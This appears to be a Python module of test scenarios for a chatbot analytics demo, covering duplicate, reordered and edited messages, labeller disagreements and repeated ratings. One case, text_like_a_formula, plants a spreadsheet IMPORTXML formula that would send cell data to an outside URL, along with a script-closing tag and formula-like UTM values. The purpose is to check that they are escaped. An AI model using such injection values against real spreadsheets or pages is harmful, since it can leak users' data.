"""Awkward cases of delivery, of tests and of opinions: the same thing said or judged twice."""

from datetime import timedelta

from orchestration.demo.casting import Case, ask_and_answer, begin
from orchestration.demo.dialogues import GREETING_BY_VARIANT
from orchestration.demo.diary import Diary, HeardMessage
from orchestration.demo.hearing import hear, hear_right, note_verdict, write_label
from orchestration.demo.script import Script
from orchestration.demo.stories import EXPERIMENT
from orchestration.demo.telling import answered, handed_off, settle
from orchestration.demo.visits import rate

_SALON, _CLINIC, _TRAINER = "salon_lime", "clinic_neva", "trainer_baltic"
_CHANCE = 0.25


def messages_out_of_order(diary: Diary, case: str) -> None:
    """What was said first arrives last."""
    script = begin(diary, case, "telegram", diary.day(46), "10:30:00")
    hours = timedelta(hours=3)
    script.customer("Почём блок?", heard=hear_right(diary, "ask_price"), late=hours)
    script.bot("19600 ₽ за 8 тренировок. Записать вас?", 3, late=hours / 2)
    script.customer("Запишите на вторник", 50, heard=hear_right(diary, "inform"))
    script.bot("Во вторник в 9:00, жду.", 2)
    answered(script, bot=3)
    settle(script, "bot_assumed")


def duplicate_delivery(diary: Diary, case: str) -> None:
    """The platform sends everything again, once at the same hour and once next week."""
    script = begin(diary, case, "whatsapp", diary.day(47), "16:00:00")
    question = script.customer("Вы открыты завтра?", heard=hear_right(diary, "ask_hours"))
    answer = script.bot("Завтра с 10:00 до 21:00.", 2)
    answered(script, bot=2)
    settle(script, "bot_assumed")
    for delay in (timedelta(minutes=1), timedelta(days=7)):
        script.repeat(question, script.now + delay)
        script.repeat(answer, script.now + delay)


def edited_message(diary: Diary, case: str) -> None:
    """A refusal is edited into a thank-you: the first time and the last text count."""
    script = begin(diary, case, "telegram", diary.day(48), "16:00:00")
    ask_and_answer(script, "Запишите на анализ крови", "Записали на пятницу, 8:30.", 2)
    refusal = script.customer("Нет, в пятницу не могу", 30, heard=hear_right(diary, "inform"))
    edited_at = script.now + timedelta(minutes=2)
    script.repeat(refusal, edited_at, {"body": "Спасибо!", "sent_at": edited_at})
    settle(script, "bot_confirmed")


def variant_changed_in_the_middle(diary: Diary, case: str) -> None:
    """The greeting switches under the customer's eyes: the first one seen decides."""
    script = begin(diary, case, "telegram", diary.day(49), "12:30:00", variant="A")
    ask_and_answer(script, "Хочу стрижку", GREETING_BY_VARIANT["A"] + "На какой день?", 2)
    script.marks = script.marks | {"experiment": EXPERIMENT, "variant": "B"}
    script.customer("На завтра", 45, heard=hear_right(diary, "inform"))
    script.bot(GREETING_BY_VARIANT["B"] + "Завтра есть 12:15.", 2)
    settle(script, "bot_assumed")


def prediction_in_the_operator_phase(diary: Diary, case: str) -> None:
    """The classifier goes on while a person talks; nobody asked it to."""
    script = begin(diary, case, "telegram", diary.day(50), "12:30:00")
    ask_and_answer(script, "Мастер меня обидел", "Зову управляющую.", 2)
    script.event("handoff_started", 1)
    script.operator("Расскажите, что случилось?", 80)
    script.customer("Опоздал на час", 30, heard=hear(diary, "inform", newer_bot=False))
    script.operator("Приносим извинения.", 40)
    script.truth.ttr_human_seconds = 80
    handed_off(script, "bot_failed")
    settle(script, "handoff_handled")


def labellers_disagree(diary: Diary, case: str) -> None:
    """Two people read the same words differently: nobody knows yet."""
    message = _one_question(diary, case, 51)
    write_label(diary, message, "anna.k", "ask_price", _CHANCE, timedelta(days=1))
    write_label(diary, message, "oleg.s", "book_visit", _CHANCE, timedelta(days=2))


def labellers_agree(diary: Diary, case: str) -> None:
    """Two people, one opinion, one label."""
    message = _one_question(diary, case, 52)
    for labeller in ("anna.k", "oleg.s"):
        write_label(diary, message, labeller, "ask_price", _CHANCE, timedelta(days=1))
    note_verdict(message, 1 / _CHANCE)


def labeller_changes_her_mind(diary: Diary, case: str) -> None:
    """The later label of the same person replaces the earlier."""
    message = _one_question(diary, case, 53)
    write_label(diary, message, "anna.k", "book_visit", _CHANCE, timedelta(days=1))
    write_label(diary, message, "anna.k", "ask_price", _CHANCE, timedelta(days=3))
    note_verdict(message, 1 / _CHANCE)


def survey_answered_twice(diary: Diary, case: str) -> None:
    """Two stars in anger, five an hour later: the last answer counts."""
    script = begin(diary, case, "telegram", diary.day(54), "13:13:00")
    ask_and_answer(script, "Где мой сертификат?", "Отправили его на почту ещё раз.", 2)
    for score, minutes in ((2, 3), (5, 63)):
        moment = script.now + timedelta(minutes=minutes)
        rate(diary, {"session_id": script.truth.session_id}, "chat", "csat", score, moment)
    script.truth.csat_chat = 5
    settle(script, "bot_confirmed")


def rated_well_at_the_question(diary: Diary, case: str) -> None:
    """The bot's question stays open, but the customer gives it ten points: content."""
    script = begin(diary, case, "telegram", diary.day(55), "13:13:00")
    ask_and_answer(script, "Как дойти от метро?", "Пять минут прямо. Скинуть карту?", 2)
    moment = script.now + timedelta(minutes=2)
    rate(diary, {"user_id": script.truth.user_id}, "chat", "nps", 10, moment)
    script.truth.nps_score = 10
    settle(script, "bot_confirmed")


def text_like_a_formula(diary: Diary, case: str) -> None:
    """What a sheet or a page might run, were it not for care: in the text and in the campaign."""
    script = begin(diary, case, "telegram", diary.day(67), "11:11:00")
    script.customer(
        '=IMPORTXML("https://example.com/?"&A1,"//a")</script><b>',
        heard=hear_right(diary, "ask_price"),
        columns={"utm_source": "=1+1", "utm_medium": "@cpc", "utm_campaign": "-2+3"},
    )
    script.bot("Уточните, какая услуга вас интересует.", 2)
    answered(script, bot=2)
    settle(script, "bot_assumed")


def text_with_breaks_and_delimiters(diary: Diary, case: str) -> None:
    """A request of three lines, with quotes, semicolons and a tab."""
    script = begin(diary, case, "telegram", diary.day(68), "11:11:00")
    ask_and_answer(
        script,
        'Нужно:\n1) "УЗИ"; 2) анализ, крови;\n\tможно в один день?',
        "В пятницу с 8:00 сделаем и то, и другое.",
    )
    settle(script, "bot_assumed")


def _one_question(diary: Diary, case: str, day: int) -> HeardMessage:
    """A talk with one classified message, taken out of the ordinary sampling."""
    script: Script = begin(diary, case, "telegram", diary.day(day), "19:19:00")
    ask_and_answer(script, "Сколько стоит записаться на стрижку?", "Стрижка — 2400 ₽.", 2)
    settle(script, "bot_assumed")
    return diary.heard.pop()


MESSAGE_CASES = (
    Case(_TRAINER, messages_out_of_order),
    Case(_SALON, duplicate_delivery),
    Case(_CLINIC, edited_message),
    Case(_SALON, variant_changed_in_the_middle),
    Case(_SALON, prediction_in_the_operator_phase),
    Case(_SALON, labellers_disagree),
    Case(_SALON, labellers_agree),
    Case(_SALON, labeller_changes_her_mind),
    Case(_SALON, survey_answered_twice),
    Case(_CLINIC, text_like_a_formula),
    Case(_CLINIC, text_with_breaks_and_delimiters),
    Case(_TRAINER, rated_well_at_the_question),
)
